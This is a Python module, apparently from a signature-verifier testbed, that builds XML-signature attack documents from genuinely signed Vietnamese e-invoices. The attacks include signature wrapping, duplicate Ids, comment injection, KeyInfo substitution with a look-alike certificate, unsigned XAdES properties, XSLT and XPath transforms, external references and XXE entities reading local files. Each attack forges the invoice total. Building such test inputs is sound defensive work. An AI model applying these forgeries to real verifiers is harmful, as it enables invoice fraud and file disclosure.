"""Attack documents built from genuinely signed XML: the XML-signature attack families of the
literature, each as bytes that a verifier must see through (issue 23, item 3).

Each function takes a validly signed document (the reference signer's output) and returns the
attack. Where the attack needs a signature that verifies in every other respect, it signs
``ds:SignedInfo`` again with the ``key`` it is given (:mod:`testbed.xml_resigning`): the
attacker's own key, or in the tests the victim's token key, so that only the check under test
can catch the attack; without a key the old SignatureValue stays.

* **Signature wrapping** (XSW; McIntyre, Somorovsky et al. 2012, "On Breaking SAML: Be Whoever
  You Want to Be"): :func:`wrap_signed_element` moves the element a Reference names by Id
  into a wrapper inside the signature's own ``ds:Object`` and puts a forged copy (no Id)
  where the application reads it; :func:`duplicate_id` puts a forged element with the same Id
  before the signed one (ID confusion: which one does the verifier digest, which one does the
  application show?).
* **Comments inside signed text** (Duo Labs 2018, CVE-2017-11427 and siblings): canonical XML
  without comments drops a comment, so :func:`comment_in_signed_text` leaves every digest
  intact while a reader that takes an element's first text node sees only the part before the
  comment. :func:`whitespace_in_signed_text` adds a space inside signed text (significant in
  canonical XML: the digest breaks) and :func:`whitespace_in_tags` only inside tags (removed
  by canonicalisation: harmless, the control that a verifier is not over-strict).
* **KeyInfo substitution** (W3C XML Signature Best Practices, 2013, §2.1 "validate the key"):
  :func:`attacker_keyinfo` forges the content and signs it again with an attacker's key whose
  self-signed certificate carries the victim's name, in KeyInfo before the victim's CA chain.
* **Unsigned SignedProperties** (ETSI EN 319 132-1 §4.3 / 5.2: SignedProperties must be
  covered): :func:`unsigned_signed_properties` drops the Reference to SignedProperties and
  back-dates the SigningTime.
* **Transforms and external references** (XML-DSig Best Practices §2.2-2.3: XSLT and XPath are
  code; a verifier must not dereference remote URIs; Hill 2007, "Attacking XML Security"):
  :func:`xslt_transform` (a stylesheet whose ``document()`` calls a local URL),
  :func:`xpath_transform` (an XPath filter that leaves the total out of the signed data, the
  total then forged), :func:`external_reference` (a Reference to ``http://127.0.0.1:PORT/``).
* **XML external entities** (OWASP XXE; CWE-611): :func:`external_entity` declares a DOCTYPE
  whose SYSTEM entities name a local file and a local URL, used in the document.

The forged text is Vietnamese and plausible (an invoice total, a date); everything is written
with lxml.
"""

from __future__ import annotations

import copy
import hashlib
from base64 import b64decode, b64encode
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from lxml import etree

from bilingual import say

from .xml_resigning import DS, NS, refresh_digests, resign, sign_signed_info

XADES = "http://uri.etsi.org/01903/v1.3.2#"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
SIGNED_TOTAL = "7579000"
"""The invoice's total (TgTTTBSo) as signed: what the forgeries change."""
FORGED_TOTAL = "757900000"
FORGED_SIGNING_TIME = "2026-10-01T09:00:00+07:00"
_PARSER = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)


def _parse(signed: bytes) -> etree._Element:
    return etree.fromstring(signed, parser=_PARSER)


def _bytes(root: etree._Element) -> bytes:
    return etree.tostring(root.getroottree(), xml_declaration=True, encoding="UTF-8")


def _signature(root: etree._Element) -> etree._Element:
    signature = root if root.tag == f"{{{DS}}}Signature" else root.find(f".//{{{DS}}}Signature")
    if signature is None:
        raise ValueError(say("tài liệu không có ds:Signature",
                               "no ds:Signature in the document"))
    return signature


def _id_target(root: etree._Element, signature: etree._Element) -> etree._Element:
    """The element the signature's first ``#id`` Reference names (the e-invoice's DLHDon)."""
    for reference in signature.findall("ds:SignedInfo/ds:Reference", namespaces=NS):
        uri = reference.get("URI") or ""
        found = root.xpath("//*[@Id=$id]", id=uri[1:]) if uri.startswith("#") else []
        if found and found[0].tag != f"{{{XADES}}}SignedProperties" \
                and found[0].getparent().tag != f"{{{DS}}}Object":
            return found[0]
    raise ValueError(say("chữ ký không tham chiếu phần tử nào của tài liệu theo Id",
                     "the signature names no element of the document by Id"))


def _forge_total(element: etree._Element) -> None:
    for node in element.iter():
        if node.text == SIGNED_TOTAL:
            node.text = FORGED_TOTAL
            return
    for node in element.iter():  # another document: forge its first figure
        if node.text and node.text.strip().isdigit():
            node.text = node.text.strip() + "000"
            return


def wrap_signed_element(signed: bytes, *, inside_signature: bool = True) -> bytes:
    """XSW: the signed element moves into a wrapper ``GoiBoc`` (inside the signature's own
    ``ds:Object``, or with ``inside_signature=False`` at the end of the document, where no
    enveloped-signature transform touches it), a forged copy without Id takes its place; the
    Reference still finds (and digests) the original."""
    root = _parse(signed)
    signature = _signature(root)
    original = _id_target(root, signature)
    forged = copy.deepcopy(original)
    del forged.attrib["Id"]
    _forge_total(forged)
    original.addprevious(forged)
    holder = etree.SubElement(signature, f"{{{DS}}}Object") if inside_signature else root
    etree.SubElement(holder, "GoiBoc").append(original)
    return _bytes(root)


def duplicate_id(signed: bytes) -> bytes:
    """ID confusion: a forged element with the signed element's Id, placed before it."""
    root = _parse(signed)
    original = _id_target(root, _signature(root))
    forged = copy.deepcopy(original)
    _forge_total(forged)
    original.addprevious(forged)
    return _bytes(root)


def _signed_text_node(root: etree._Element, signature: etree._Element) -> etree._Element:
    target = _id_target(root, signature) if root.tag != f"{{{DS}}}Signature" else root
    for node in target.iter():
        if node.text == SIGNED_TOTAL:
            return node
    return next(n for n in target.iter() if isinstance(n.tag, str) and (n.text or "").strip())


def comment_in_signed_text(signed: bytes) -> bytes:
    """A comment in the middle of a signed text: ``<TgTTTBSo>757<!---->9000</TgTTTBSo>``.
    Every digest still matches; lxml's ``.text`` (and many readers) now say ``757``."""
    root = _parse(signed)
    node = _signed_text_node(root, _signature(root))
    text = node.text or ""
    half = max(1, len(text) // 2)
    node.text = text[:half]
    comment = etree.Comment("")
    comment.tail = text[half:]
    node.insert(0, comment)
    return _bytes(root)


def whitespace_in_signed_text(signed: bytes) -> bytes:
    """A space inside signed text: canonical XML keeps it, so the digest no longer matches."""
    root = _parse(signed)
    node = _signed_text_node(root, _signature(root))
    node.text = f" {node.text}"
    return _bytes(root)


def whitespace_in_tags(signed: bytes) -> bytes:
    """Spaces inside start tags (``<DLHDon   Id="data"  >``): canonicalisation removes them;
    the document still says what was signed (a control, not an attack)."""
    return signed.replace(b' Id="data">', b'   Id="data"  >', 1)


def _throwaway(victim: x509.Certificate) -> tuple[ec.EllipticCurvePrivateKey, bytes]:
    """An attacker's key and a self-signed certificate in the victim's name, with the key
    usage a signer's certificate has (nonRepudiation) and the victim's validity period:
    nothing but the chain tells it apart."""
    key = ec.generate_private_key(ec.SECP256R1())
    subject = victim.subject
    certificate = (x509.CertificateBuilder().subject_name(subject).issuer_name(subject)
                   .public_key(key.public_key()).serial_number(x509.random_serial_number())
                   .not_valid_before(victim.not_valid_before_utc)
                   .not_valid_after(victim.not_valid_after_utc)
                   .add_extension(x509.KeyUsage(
                       digital_signature=True, content_commitment=True, key_encipherment=False,
                       data_encipherment=False, key_agreement=False, key_cert_sign=False,
                       crl_sign=False, encipher_only=False, decipher_only=False), critical=True)
                   .sign(key, hashes.SHA256()))
    return key, certificate.public_bytes(serialization.Encoding.DER)


def attacker_keyinfo(signed: bytes) -> bytes:
    """The total forged, then signed again by an attacker whose self-signed certificate
    copies the victim's subject; it goes first in KeyInfo, the victim's CA chain after it."""
    root = _parse(signed)
    signature = _signature(root)
    _forge_total(_id_target(root, signature) if root.tag != f"{{{DS}}}Signature" else root)
    nodes = signature.findall("ds:KeyInfo/ds:X509Data/ds:X509Certificate", namespaces=NS)
    victim = x509.load_der_x509_certificate(b64decode("".join((nodes[0].text or "").split())))
    key, certificate = _throwaway(victim)
    nodes[0].text = b64encode(certificate).decode()
    resign(root, signature, key)
    return _bytes(root)


def unsigned_signed_properties(signed: bytes, key: Any | None = None) -> bytes:
    """XAdES: no Reference covers SignedProperties any more, and its SigningTime is back-dated
    (anything in it could now be swapped); SignedInfo signed again with ``key``."""
    root = _parse(signed)
    signature = _signature(root)
    signed_info = signature.find("ds:SignedInfo", namespaces=NS)
    for reference in signed_info.findall("ds:Reference", namespaces=NS):
        if reference.get("Type", "").endswith("#SignedProperties"):
            signed_info.remove(reference)
    time = signature.find(".//xades:SigningTime", namespaces={"xades": XADES})
    if time is None:
        raise ValueError(say("không phải chữ ký XAdES (không có SigningTime)",
                               "not a XAdES signature (no SigningTime)"))
    time.text = FORGED_SIGNING_TIME
    resign(root, signature, key)
    return _bytes(root)


def _first_reference(signature: etree._Element) -> etree._Element:
    return signature.find("ds:SignedInfo/ds:Reference", namespaces=NS)


def _transforms(reference: etree._Element) -> etree._Element:
    transforms = reference.find("ds:Transforms", namespaces=NS)
    if transforms is None:
        transforms = etree.Element(f"{{{DS}}}Transforms")
        reference.insert(0, transforms)
    return transforms


def xslt_transform(signed: bytes, url: str, key: Any | None = None) -> bytes:
    """An XSLT transform first in the first Reference, whose stylesheet calls
    ``document(url)``: a verifier that runs it fetches ``url`` (and runs attacker code)."""
    root = _parse(signed)
    signature = _signature(root)
    transform = etree.Element(f"{{{DS}}}Transform", Algorithm=XSLT)
    sheet = etree.SubElement(transform, "{http://www.w3.org/1999/XSL/Transform}stylesheet",
                             version="1.0")
    template = etree.SubElement(sheet, "{http://www.w3.org/1999/XSL/Transform}template",
                                match="/")
    etree.SubElement(template, "{http://www.w3.org/1999/XSL/Transform}value-of",
                     select=f"document('{url}')")
    _transforms(_first_reference(signature)).insert(0, transform)
    resign(root, signature, key)
    return _bytes(root)


def xpath_transform(signed: bytes, key: Any | None = None) -> bytes:
    """An XPath filter in the first Reference that leaves the invoice total out of what is
    signed (the digest taken over the element without it, as the filter's output), then the
    total forged."""
    root = _parse(signed)
    signature = _signature(root)
    total = next(iter(_id_target(root, signature).iter("TgTTTBSo")), None)
    if total is None:
        raise ValueError(say("hóa đơn không có tổng tiền (TgTTTBSo)",
                               "no invoice total (TgTTTBSo) to leave out"))
    parent, position = total.getparent(), total.getparent().index(total)
    parent.remove(total)
    refresh_digests(root, signature)
    transform = etree.Element(f"{{{DS}}}Transform", Algorithm=XPATH)
    etree.SubElement(transform, f"{{{DS}}}XPath").text = "not(ancestor-or-self::TgTTTBSo)"
    _transforms(_first_reference(signature)).insert(0, transform)
    total.text = FORGED_TOTAL
    parent.insert(position, total)
    if key is not None:
        sign_signed_info(signature, key)
    return _bytes(root)


def external_reference(signed: bytes, url: str, served: bytes, key: Any | None = None
                       ) -> bytes:
    """A Reference to ``url`` added to SignedInfo, with the digest of what the attacker
    serves there (``served``): only a verifier that fetches it could check it."""
    root = _parse(signed)
    signature = _signature(root)
    reference = etree.SubElement(signature.find("ds:SignedInfo", namespaces=NS),
                                 f"{{{DS}}}Reference", URI=url)
    etree.SubElement(reference, f"{{{DS}}}DigestMethod",
                     Algorithm="http://www.w3.org/2001/04/xmlenc#sha256")
    etree.SubElement(reference, f"{{{DS}}}DigestValue").text = b64encode(
        hashlib.sha256(served).digest()).decode()
    resign(root, signature, key)
    return _bytes(root)


def external_entity(signed: bytes, file_path: str, url: str) -> bytes:
    """A DOCTYPE declaring two SYSTEM entities, a local file and a local URL, used in a
    ``GhiChu`` element after the signed data: a parser that resolves them reads the file and
    fetches the URL."""
    declaration, _, rest = signed.partition(b"?>")
    doctype = (f'\n<!DOCTYPE {_parse(signed).tag} [\n'
               f'  <!ENTITY tep SYSTEM "file://{file_path}">\n'
               f'  <!ENTITY mang SYSTEM "{url}">\n]>').encode()
    closing = f"</{_parse(signed).tag}>".encode()
    body = rest.rstrip()
    if not body.endswith(closing):
        raise ValueError(say("tài liệu kết thúc không như mong đợi",
                               "unexpected document end"))
    body = body[:-len(closing)] + b"<GhiChu>&tep;&mang;</GhiChu>" + closing
    return declaration + b"?>" + doctype + body + b"\n"


__all__ = ["FORGED_SIGNING_TIME", "FORGED_TOTAL", "SIGNED_TOTAL", "attacker_keyinfo",
           "comment_in_signed_text", "duplicate_id", "external_entity", "external_reference",
           "unsigned_signed_properties", "whitespace_in_signed_text", "whitespace_in_tags",
           "wrap_signed_element", "xpath_transform", "xslt_transform"]
